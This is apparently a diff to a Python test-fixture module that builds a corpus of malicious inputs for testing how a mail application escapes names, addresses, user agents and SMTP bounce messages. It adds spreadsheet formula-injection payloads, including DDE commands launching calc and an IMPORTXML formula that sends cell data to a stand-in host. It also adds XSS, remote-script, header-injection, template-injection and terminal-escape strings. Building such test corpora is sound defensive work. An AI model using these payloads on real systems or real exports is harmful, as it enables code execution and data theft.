@@ -1,6 +1,7 @@
-"""What clients send as names, addresses and user agents when they mean harm: as advisories and cheat sheets have it.
+"""What others write when they mean harm: names, addresses and user agents, as an attacker posts them with a public key
+or types them into a form, and what a mail server says of a bounce. As advisories and cheat sheets have it.
 
-Each is what an attacker posts with a public key, or types into a form.
+The one corpus: of templates, mails, recipients' pages, the mailbox's page and every export.
 """
 
 from __future__ import annotations
@@ -38,6 +39,16 @@ NAMES = (
     "\ud800\udfff",
     "A" * 20_000,
     "=HYPERLINK(\"http://evil.example\")",
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "Ada\",\"=1+1\",\"",
+    "Ada\r\n=1+1,x",
     "Win now at evil.example/prize",
     "http://evil.example",
     "www.evil.example",
@@ -79,4 +90,16 @@ USER_AGENTS = (
     "x" * 10_000,
 )  # fmt: skip
 
-CORPUS = (*NAMES, *ADDRESSES, *USER_AGENTS)
+SMTP_TEXTS = (
+    "smtp; 550 5.1.1 <script>alert(1)</script> user unknown",
+    "smtp; 550 5.1.1 <\"><img src=x onerror=alert(1)>@example.com>: Recipient address rejected",
+    "smtp; 554 5.7.1 see </td></tr></table><script src=//evil.example/x.js></script>",
+    "smtp; 421 4.7.0 line one\r\nSet-Cookie: x=1\r\n\r\n<html>",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    "550 {{ links.unsubscribe }} ${7*7}",
+    "smtp; 550 \x1b]0;owned\x07\x1b[2J \u202egnp.exe",
+    "smtp; 550 javascript:alert(1) data:text/html,<script>alert(1)</script>",
+    "550 " + "y" * 10_000,
+)  # fmt: skip
+
+CORPUS = (*NAMES, *ADDRESSES, *USER_AGENTS, *SMTP_TEXTS)
